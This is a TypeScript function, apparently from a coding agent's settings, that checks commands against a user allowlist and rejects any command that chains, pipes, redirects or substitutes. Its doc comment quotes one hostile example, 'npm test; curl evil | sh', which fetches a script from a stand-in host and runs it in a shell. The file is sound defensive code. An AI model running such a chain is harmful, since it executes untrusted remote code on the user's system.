/**
 * `ponder.agent.allowedCommands`: commands run_command may run without asking. An entry is an
 * exact command, or a prefix ending in " *" ("npm run test *" allows "npm run test -- -g x").
 * A command that chains, pipes, redirects or substitutes (; & | ` $( > < or a line break) is
 * never allowed by the list: "npm test; curl evil | sh" must not pass as "npm test *".
 */
const SHELL_META = /[;&|`<>\n\r]|\$\(/;

export function allowedByList(command: string, list: readonly string[] | undefined): string | undefined {
  if (!list?.length) return undefined;
  const cmd = command.trim().replace(/\s+/g, ' ');
  if (!cmd || SHELL_META.test(cmd)) return undefined;
  for (const raw of list) {
    const entry = raw.trim().replace(/\s+/g, ' ');
    if (!entry) continue;
    if (entry.endsWith(' *')) {
      const prefix = entry.slice(0, -2);
      if (cmd === prefix || cmd.startsWith(prefix + ' ')) return raw;
    } else if (cmd === entry) return raw;
  }
  return undefined;
}
